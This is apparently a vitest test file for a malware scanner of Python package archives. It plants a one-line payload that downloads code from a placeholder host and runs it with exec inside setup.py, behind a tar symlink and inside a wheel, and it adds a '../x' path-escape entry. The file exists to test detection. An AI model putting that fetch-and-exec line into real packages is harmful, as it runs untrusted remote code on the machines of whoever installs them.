import { expect, test } from 'vitest';
import { bytesSource } from '../../src/analysis/archive/bytes.ts';
import { scanFile } from '../../src/scan/child-scan.ts';
import { makeSdist } from '../support/make-sdist.ts';
import { makeTar } from '../support/make-tar.ts';
import { makeWheel, wheelFilename } from '../support/make-wheel.ts';

const PAYLOAD = 'import urllib.request\nexec(urllib.request.urlopen("http://files.invalid/x").read())\n';

async function scan(filename: string, bytes: Uint8Array): ReturnType<typeof scanFile> {
  return scanFile(bytesSource(bytes), { id: 1, path: '', filename, sha256: 'a'.repeat(64), ruleset: 'rules-1' });
}

test('a report says what the content does and what the container is', async () => {
  const { report } = await scan('example-1.0.0.tar.gz', makeSdist({ 'setup.py': PAYLOAD }));

  expect(report.score).toBeGreaterThanOrEqual(10);
  expect(report.findings[0]).toMatchObject({ class: 'malware', path: 'example-1.0.0/setup.py', context: 'install' });
  expect(report.summary.memberCount).toBe(2);
});

test('a payload behind a link is what the link is', async () => {
  const tar = makeTar([
    { name: 'example-1.0/tests/data.txt', content: PAYLOAD },
    { name: 'example-1.0/setup.py', type: '2', linkName: 'tests/data.txt' },
  ]);

  const { report } = await scan('example-1.0.tar', tar);

  expect(report.findings[0]).toMatchObject({ class: 'malware', path: 'example-1.0/setup.py' });
});

test('an archive that cannot be opened has a report that says why, with what was seen of its container', async () => {
  const cutOff = makeTar([{ name: '../x', content: 'x'.repeat(2_000) }]).subarray(0, 1_024);

  const { report } = await scan('example-1.0.tar', cutOff);

  expect(report.unscannable?.cause).toBe('format');
  expect(report.findings[0]?.message).toContain('path-escapes');
});

test('a part that cannot be read makes the report unscannable, and the rest is still analysed', async () => {
  const files = { 'pkg/__init__.py': PAYLOAD, 'pkg/locked.bin': 'x' };
  const lock = makeWheel(files, {
    editMembers: (members) => members.map((one) => (one.name === 'pkg/locked.bin' ? { ...one, flags: 1 } : one)),
  });

  const { report } = await scan(wheelFilename(files), lock);

  expect(report.unscannable).toEqual({
    cause: 'encrypted',
    message: 'pkg/locked.bin: it is encrypted or patched data',
  });
  expect(report.findings.map((one) => one.class)).toContain('malware');
});
